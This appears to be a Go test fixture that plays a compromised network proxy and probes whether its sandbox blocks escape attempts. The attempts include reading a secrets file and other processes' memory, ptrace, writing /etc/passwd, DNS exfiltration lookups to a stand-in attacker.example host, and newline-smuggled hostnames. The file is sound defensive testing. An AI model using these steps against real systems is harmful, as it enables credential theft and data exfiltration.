// Package main is a proxy that somebody has taken over: what it tries once it runs as the proxy. The test builds it into the binary, by
// an overlay, and has runProxy start it behind HardenProxy. Names begin with taken, since they stand among the program's own.
package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"net/netip"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"exitgate/cmd/internal/wire"

	"golang.org/x/sys/unix"
)

// Started as `exitgate takeover FILE` it tries the same without being the proxy.
func init() {
	if len(os.Args) == 3 && os.Args[1] == "takeover" {
		takeover(nil, os.Args[2])
		os.Exit(0)
	}
}

// takenOrders are what the test knows: addresses, and whom to reach for.
type takenOrders struct {
	Elsewhere4, Elsewhere6, DNS4, DNS6, Pinned, Gate netip.AddrPort
	Other                                            int
}

// takeover waits for its orders, tries everything and says what it got.
func takeover(g *wire.Guest, file string) {
	runtime.LockOSThread()
	var o takenOrders
	for text := []byte(nil); json.Unmarshal(text, &o) != nil; time.Sleep(10 * time.Millisecond) {
		text, _ = os.ReadFile(file)
	}
	got := map[string]string{}
	if g != nil { // first: what is pinned is reached below
		for name, r := range takenLookups() {
			got["resolve "+name] = takenWord(takenResolve(g, r))
		}
	}
	got["identity"] = takenIdentity()
	all := takenTries(o)
	for _, name := range slices.Sorted(maps.Keys(all)) {
		got[name] = takenWord(all[name]())
	}
	// Last, because where they succeed they take the rest away.
	got["leave its group"] = takenWord(takenCall(unix.SYS_SETRESGID, 0, 0, 0))
	got["take capabilities"] = takenWord(takenTakeCapabilities())
	text, _ := json.Marshal(got)
	fmt.Fprintln(os.Stderr, "takeover: "+string(text))
}

func takenLookups() map[string]wire.Resolve {
	return map[string]wire.Resolve{
		"an allowed name": {Host: "files.example.com", Port: 443}, "a shared route's upstream": {Host: "api.example.com", Port: 443}, "a name the policy lacks": {Host: "c2VjcmV0.attacker.example", Port: 443},
		"an allowed name's other port": {Host: "files.example.com", Port: 22}, "an address": {Host: "45.66.77.88", Port: 443}, "loopback": {Host: "127.0.0.1", Port: 443},
		"a host of root's list":  {Host: "deb.example.org", Port: 443},
		"a name with a line end": {Host: "api.example.com\n.attacker.example", Port: 443}, "a long name": {Host: strings.Repeat("a.", 500) + "attacker.example", Port: 443},
	}
}

func takenResolve(g *wire.Guest, r wire.Resolve) error {
	ctx, stop := context.WithTimeout(context.Background(), 10*time.Second)
	defer stop()
	_, err := g.Resolve(ctx, "agent", "", r.Host, r.Port)
	return err
}

// takenWord is an error in a word.
func takenWord(err error) string {
	var errno unix.Errno
	switch {
	case err == nil:
		return "ok"
	case errors.As(err, &errno):
		return unix.ErrnoName(errno)
	}
	return "refused"
}

func takenTries(o takenOrders) map[string]func() error {
	all := map[string]func() error{
		"nftables socket":    func() error { return takenSocket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER) },
		"route socket":       func() error { return takenSocket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE) },
		"the control socket": takenControl, "raw socket": func() error { return takenSocket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP) },
		"packet socket": func() error { return takenSocket(unix.AF_PACKET, unix.SOCK_RAW, 0) }, "udp socket": func() error { return takenSocket(unix.AF_INET, unix.SOCK_DGRAM, 0) },
		"fork": takenFork, "read the credential's file": func() error { return takenOpen("/run/secrets/api", unix.O_RDONLY) }, "listen": takenListen,
		"executable memory": takenExecutable, "execute": takenExecute,
	}
	for name, pid := range map[string]int{"PID 1": 1, "another process of root": o.Other} {
		all["read the memory of "+name] = func() error { return takenOpen(fmt.Sprintf("/proc/%d/mem", pid), unix.O_RDONLY) }
		all["write the memory of "+name] = func() error { return takenOpen(fmt.Sprintf("/proc/%d/mem", pid), unix.O_RDWR) }
		all["read the environment of "+name] = func() error { return takenOpen(fmt.Sprintf("/proc/%d/environ", pid), unix.O_RDONLY) }
		all["process_vm_readv of "+name] = func() error { return takenMemory(pid) }
		all["ptrace of "+name] = func() error { return takenCall(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0) }
		all["signal to "+name] = func() error { return unix.Kill(pid, 0) }
		all["tgkill to "+name] = func() error { return takenCall(unix.SYS_TGKILL, uintptr(pid), uintptr(pid), 0) }
		all["pidfd of "+name] = func() error { fd, err := unix.PidfdOpen(pid, 0); unix.Close(fd); return err }
	}
	for name, path := range map[string]string{"the policy": "/etc/exitgate/policy.yaml", "passwd": "/etc/passwd", "resolv.conf": "/etc/resolv.conf", "the CA bundle": "/etc/ssl/certs/ca-certificates.crt"} {
		all["write "+name] = func() error { return takenOpen(path, unix.O_WRONLY|unix.O_APPEND) }
		all["chmod "+name] = func() error { return unix.Fchmodat(unix.AT_FDCWD, path, 0o644, 0) }
	}
	for _, dir := range []string{"/tmp", "/run/exitgate", "/etc/exitgate", "/root"} {
		path := filepath.Join(dir, "new"+strconv.Itoa(os.Getpid()))
		all["create a file in "+dir] = func() error { return takenOpen(path, unix.O_WRONLY|unix.O_CREAT) }
		all["make a link in "+dir] = func() error { return unix.Symlinkat("/etc/passwd", unix.AT_FDCWD, path+"l") }
		all["rename in "+dir] = func() error { return unix.Renameat(unix.AT_FDCWD, path+"l", unix.AT_FDCWD, path+"m") }
	}
	for name, to := range map[string]netip.AddrPort{"an unpinned address": o.Elsewhere4, "an unpinned address, IPv6": o.Elsewhere6, "the name server by tcp": o.DNS4, "the name server by tcp, IPv6": o.DNS6,
		"a pinned address": o.Pinned, "a pinned address, other port": netip.AddrPortFrom(o.Pinned.Addr(), 80), "the gateway": o.Gate} {
		all["connect to "+name] = func() error { return takenConnect(to) }
	}
	return all
}

func takenCall(nr uintptr, args ...uintptr) error {
	var a [6]uintptr
	copy(a[:], args)
	if _, _, errno := unix.RawSyscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5]); errno != 0 {
		return errno
	}
	return nil
}

func takenSocket(domain, kind, proto int) error {
	fd, err := unix.Socket(domain, kind|unix.SOCK_CLOEXEC, proto)
	if err == nil {
		unix.Close(fd)
	}
	return err
}

func takenOpen(path string, flags int) error {
	fd, err := unix.Openat(unix.AT_FDCWD, path, flags|unix.O_CLOEXEC, 0o600)
	if err == nil {
		unix.Close(fd)
	}
	return err
}

// takenControl connects to the control socket.
func takenControl() error {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.Connect(fd, &unix.SockaddrUnix{Name: "/run/exitgate/control.sock"})
}

func takenConnect(to netip.AddrPort) error {
	domain, addr := unix.AF_INET, unix.Sockaddr(nil)
	if to.Addr().Is4() {
		addr = &unix.SockaddrInet4{Port: int(to.Port()), Addr: to.Addr().As4()}
	} else {
		domain, addr = unix.AF_INET6, &unix.SockaddrInet6{Port: int(to.Port()), Addr: to.Addr().As16()}
	}
	fd, err := unix.Socket(domain, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.Connect(fd, addr)
}

func takenListen() error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.Listen(fd, 1)
}

func takenFork() error {
	pid, _, errno := unix.RawSyscall(unix.SYS_CLONE, uintptr(unix.SIGCHLD), 0, 0)
	if errno != 0 {
		return errno
	}
	if pid == 0 {
		unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	}
	return nil
}

// takenExecute runs a file that is no program: ENOEXEC says that a program would have run.
func takenExecute() error {
	path, _ := unix.BytePtrFromString("/etc/exitgate/noprogram")
	err := takenCall(unix.SYS_EXECVE, uintptr(unsafe.Pointer(path)), 0, 0)
	if err == unix.ENOEXEC {
		return nil
	}
	return err
}

func takenMemory(pid int) error {
	local := unix.Iovec{Base: new(byte)}
	local.SetLen(1)
	_, err := unix.ProcessVMReadv(pid, []unix.Iovec{local}, []unix.RemoteIovec{{Base: 8, Len: 1}}, 0)
	if err == unix.EFAULT {
		return nil
	}
	return err
}

func takenExecutable() error {
	b, err := unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE|unix.PROT_EXEC, unix.MAP_PRIVATE|unix.MAP_ANON)
	if err == nil {
		unix.Munmap(b)
	}
	return err
}

// takenTakeCapabilities asks for NET_ADMIN where it was not given up.
func takenTakeCapabilities() error {
	header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	data := [2]unix.CapUserData{{Effective: 1 << unix.CAP_NET_ADMIN, Permitted: 1 << unix.CAP_NET_ADMIN}}
	return unix.Capset(&header, &data[0])
}

// takenIdentity is what the kernel says of this process.
func takenIdentity() string {
	text, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return err.Error()
	}
	var all []string
	for line := range strings.Lines(string(text)) {
		for _, key := range []string{"Uid:", "Gid:", "Groups:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:", "NoNewPrivs:", "Seccomp:"} {
			if strings.HasPrefix(line, key) {
				all = append(all, strings.Join(strings.Fields(line), " "))
			}
		}
	}
	return strings.Join(all, "; ")
}
